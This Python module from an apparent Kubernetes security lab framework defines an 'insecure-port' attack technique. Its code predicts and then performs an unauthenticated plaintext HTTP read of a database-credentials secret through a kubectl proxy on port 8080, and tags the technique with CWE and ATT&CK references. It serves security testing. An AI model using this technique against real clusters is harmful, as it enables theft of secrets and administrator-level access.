"""Use the plaintext port in front of the apiserver, which accepts every caller.

Kubernetes 1.24 removed the apiserver's own insecure port, but ``kubectl proxy`` opens one like
it. Each caller of the proxy acts with the rights of the administrator who started it. The
attacker needs a connection to the port; from the master itself, its loopback address is enough.
They read a secret over plain HTTP, and the apiserver allows them everything. No such port, or a
proxy on a UNIX socket, stops it.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import TYPE_CHECKING

from labkit.cluster import Component, Environment
from labkit.errors import ProbeError
from labkit.model import Claim, Foothold, Model, read_model
from labkit.model.addresses import apiserver_of, is_loopback
from labkit.model.authorization import credential_of, proxy_authorization
from labkit.model.decision import Action, Caller
from labkit.model.rights import authenticated_as
from labkit.techniques._lib.api.access import (
    ACCESS_REVIEW,
    ASK_EVERYTHING,
    everything_allowed,
    everything_review,
    in_turn,
)
from labkit.techniques._lib.api.ask import ask, first_refusal
from labkit.techniques._lib.machines.reach import Answer, request
from labkit.techniques._lib.stores.secret import true_secret
from labkit.techniques._lib.technique import (
    ADMIN,
    NETWORK,
    POD,
    USER_ON_MASTER,
    USER_ON_WORKER,
    Prediction,
    SentRequest,
    Technique,
)
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

WANTED = ("shop", "db-credentials", "password")
PATH = "/api/v1/namespaces/shop/secrets/db-credentials"
READ = Action("get", "secrets", namespace=WANTED[0], name=WANTED[1])
#: The port to try, in both environments, whether or not anything listens there.
PORT = "8080"
CHANNEL = "anyone@network -> *@master:8080"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the port is open to this foothold, and what the proxy may do."""
    proxy, opened = _proxy(model.environment), _opened(model, foothold)
    if proxy is None or opened.succeeds is False:
        return opened
    config = proxy.kubeconfig
    server = apiserver_of(model.environment, config) if config else None
    return first_refusal((proxy_authorization(model.environment, proxy, server), ("allow-all",)))


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return what the proxy passes on, as the administrator who started it."""
    env, proxy = model.environment, _proxy(model.environment)
    config = proxy.kubeconfig if proxy else None
    server = apiserver_of(env, config) if config else None
    if config is None or server is None:
        return []
    credential = credential_of(env, config)
    owner = authenticated_as(server, env, credential)
    if credential is None and config.method:
        claim = Claim("unknown", f"the proxy acts as {config.user}", config.server.source)
        owner = Caller("", frozenset(), claim)
    return in_turn(model, owner, READ, ASK_EVERYTHING, sent=_opened(model, foothold))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Ask for a secret over plain HTTP; on the master, through the loopback address."""
    secret = true_secret(lab, *WANTED)

    def proof(answer: Answer) -> str:
        if not secret.found_in(answer.body):
            raise ProbeError("something answered, but not with the secret")
        return f"{everything_allowed(everything())}; read: {secret.proof}"

    def everything() -> Answer:
        return request(lab, f"{port}{ACCESS_REVIEW}", foothold=foothold, body=everything_review())

    def control() -> str:
        lab.api("GET", PATH)
        return "the administrator reads it on the apiserver's TLS port"

    host = "localhost" if foothold == USER_ON_MASTER else "master"
    port = f"http://{host}:{PORT}"
    url = f"{port}{PATH}"
    return ask(lab, TECHNIQUE.name, foothold, url, proof=proof, control=control)


def _opened(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether something listens on the port, for this foothold."""
    proxy = _proxy(model.environment)
    if proxy is None:
        return Prediction(False, (_nothing(model),))
    address = proxy.setting("address")
    if is_loopback(address.value) and foothold != USER_ON_MASTER:
        return Prediction(False, (f"listens on {address.value} only: {address.source}",))
    return Prediction(True, (str(address.source),))


def _proxy(env: Environment) -> Component | None:
    """Return the proxy that serves the port on the master, or None."""
    for it in env.components:
        serves = it.kind == "kubectl-proxy" and not it.setting("unix-socket").value
        if serves and it.node == "master" and it.setting("port").value == PORT:
            return it
    return None


def _nothing(model: Model) -> str:
    shut = model.closed_channels(CHANNEL)
    return str(shut[0].encryption) if shut else f"nothing listens on port {PORT} of the master"


def _settings(env: Environment) -> list[Setting]:
    """Return the address on which the proxy listens."""
    proxy = _proxy(env)
    address = proxy.setting("address") if proxy else None
    if address is None:
        return [("kubectl proxy", "none", _nothing(read_model(env)))]
    return [("kubectl proxy", address.value, str(address.source))]


TECHNIQUE = Technique(
    name="insecure-port",
    title="Do everything over the plaintext port without authentication",
    footholds=(NETWORK, USER_ON_MASTER, USER_ON_WORKER, POD),
    grants=(ADMIN,),
    about=CHANNEL,
    properties=("encryption", "client_authentication", "authorization"),
    attack=("T1552.007", "T1613"),
    stride=("spoofing", "information disclosure"),
    cwe=("CWE-306", "CWE-319"),
    sources=(
        "Securing communications in Kubernetes (2016), The insecure port",
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_proxy/",
        "https://attack.mitre.org/techniques/T1552/007/",
    ),
    predict=predict,
    execute=execute,
    requests=requests,
    settings=_settings,
)
